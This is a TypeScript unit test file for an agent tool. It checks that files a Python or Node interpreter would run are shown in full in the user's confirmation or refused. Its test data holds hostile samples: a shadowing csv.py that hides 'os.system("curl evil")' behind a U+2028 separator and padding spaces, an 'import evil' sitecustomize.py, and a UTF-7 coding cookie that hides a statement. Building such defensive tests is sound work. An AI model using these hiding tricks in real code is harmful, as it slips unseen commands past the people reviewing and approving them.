/**
 * Core agent/sessionFiles.ts (issue 34): a session's `files` that an interpreter would import or
 * run are shown whole or refused, never listed by name and size only; the confirmation shows the
 * whole code or refuses it; the refusals are in agentFiles, so the MCP server and the VS Code tool share them.
 */
import * as assert from 'node:assert/strict';
import { agentFiles, agentSessionConfirmLines } from '../../src/core/agent/agentSession';
import { CONFIRM_SHOWN_CHARS, confirmTooLong, sessionFileKind, shownSources } from '../../src/core/agent/sessionFiles';
import { shownCode } from '../../src/core/agent/visibleText';
import { isRelativeFileName } from '../../src/core/session/frames';

const bytes = (files: Parameters<typeof agentFiles>[0]) => agentFiles(files, isRelativeFileName);

describe('session files an interpreter would run (unit)', () => {
  it('refuses compiled code Python or Node would load, naming the file', () => {
    for (const name of ['csv.pyc', '__pycache__/csv.cpython-311.pyc', 'csv.cpython-311-x86_64-linux-gnu.so', 'lib/csv.PYD', 'old.pyo', 'addon.node', 'x.dll', 'y.dylib']) {
      const r = bytes({ [name]: { base64: 'AAEC' } });
      assert.equal(typeof r, 'string', name);
      assert.match(r as string, new RegExp(`^files: ${JSON.stringify(name).replace(/[.*+?^${}()|[\]\\/]/g, '\\$&')} is compiled code .*\\.$`));
    }
  });

  it('shows a shadowing csv.py whole, hidden lines included, and marks it in the file list', () => {
    // The finding: `csv.py` shadowed the standard module and its unseen code ran.
    const body = 'def reader(f):\n    return []\n' + Array.from({ length: 300 }, (_, i) => `# ${i}`).join('\n') + '\n# notes\u2028import os; os.system("curl evil")\n' + ' '.repeat(250) + 'STEAL = 1\n';
    const files = bytes({ 'csv.py': body, 'data.csv': 'a,b\n', 'pkg/__init__.py': 'X = 1\n', 'sitecustomize.py': 'import evil\n', 'cfg.json': '{}' }) as Record<string, Uint8Array>;
    assert.equal(typeof files, 'object');
    const shown = shownSources(files);
    assert.deepEqual(shown.map((s) => s.name), ['csv.py', 'pkg/__init__.py', 'sitecustomize.py']);
    const csv = shown[0]!.text;
    assert.ok(csv.includes('# 299'), 'not the whole file');
    assert.match(csv, /# notes⟦U\+2028⟧\nimport os; os\.system\("curl evil"\)/);
    assert.ok(csv.includes('STEAL = 1'), 'a statement after 250 spaces was hidden');
    const lines = agentSessionConfirmLines('new', files);
    assert.ok(lines.includes(`File: "csv.py" (${Buffer.byteLength(body)} bytes, source code: shown in full below)`), lines.join('\n'));
    assert.ok(lines.includes('File: "data.csv" (4 bytes)'), lines.join('\n'));
    assert.ok(lines.includes('File: "cfg.json" (2 bytes)'), 'JSON is data: require parses it, never runs it');
  });

  it('lists every file passed in, never the first ones and a count', () => {
    const many = Object.fromEntries(Array.from({ length: 64 }, (_, i) => [`f${i}.txt`, 'x']));
    const lines = agentSessionConfirmLines('new', bytes(many) as Record<string, Uint8Array>);
    assert.equal(lines.length, 2 + 64);
    assert.ok(!lines.some((l) => /more files/.test(l)));
  });

  it('refuses a source Python would decode otherwise than shown: a non-UTF-8 coding cookie, bytes that are not UTF-8', () => {
    // python3 runs this file's second statement: UTF-7 decodes "+AAo-" as a line feed (checked with Python 3.11).
    const utf7 = '# coding: utf-7\nx = 1 +AAo-print("HIDDEN")\n';
    assert.match(bytes({ 'helper.py': utf7 }) as string, /^files: "helper\.py" declares the source encoding "utf-7", so Python would not run what is shown; .*\.$/);
    assert.match(bytes({ 'h.py': '#!/usr/bin/env python3\n# -*- coding: latin-1 -*-\n' }) as string, /declares the source encoding "latin-1"/);
    assert.match(bytes({ 'h.py': { base64: Buffer.from([0x78, 0x3d, 0xff, 0x0a]).toString('base64') } }) as string, /^files: "h\.py" is source code that is not UTF-8 text/);
    for (const ok of ['# -*- coding: utf-8 -*-\nx = 1\n', '# vim: set fileencoding=UTF_8 :\n', 'x = "coding: utf-7"\n']) {
      assert.equal(typeof bytes({ 'h.py': ok }), 'object', ok);
    }
    assert.equal(typeof bytes({ 'data.bin': { base64: Buffer.from([0xff, 0xfe]).toString('base64') } }), 'object', 'binary data is data');
  });

  it('classifies by the last extension, case-insensitively', () => {
    assert.equal(sessionFileKind('CSV.PY'), 'source');
    assert.equal(sessionFileKind('a.pth'), 'source');
    assert.equal(sessionFileKind('run.sh'), 'source');
    assert.equal(sessionFileKind('m.mjs'), 'source');
    assert.equal(sessionFileKind('x.py.txt'), 'data');
    assert.equal(sessionFileKind('.py'), 'data');
    assert.equal(sessionFileKind('a.json'), 'data');
  });
});

describe('the confirmation shows the whole code or refuses it (unit)', () => {
  it('shows every line of long code', () => {
    const code = Array.from({ length: 500 }, (_, i) => `x${i} = ${i}`).join('\n');
    const shown = shownCode(code).split('\n');
    assert.equal(shown.length, 500);
    assert.equal(shown.at(-1), 'x499 = 499');
    assert.equal(confirmTooLong(code, []), undefined);
  });

  it('refuses code and source files too long to show whole, well under the 100,000 characters VS Code renders', () => {
    assert.ok(CONFIRM_SHOWN_CHARS <= 80_000);
    assert.match(confirmTooLong('x'.repeat(CONFIRM_SHOWN_CHARS + 1), []) ?? '', /^the code would be \d+ characters in the confirmation, more than the 60000 it shows whole; split the work into smaller calls\.$/);
    // Escapes count as shown: 20,000 hidden characters are 160,000 shown.
    assert.ok(confirmTooLong('\u200b'.repeat(20_000), []));
    const src = shownSources(bytes({ 'big.py': 'y = 1\n'.repeat(10_000) }) as Record<string, Uint8Array>);
    assert.match(confirmTooLong('print(1)', src) ?? '', /^the code and its source files would be/);
  });
});
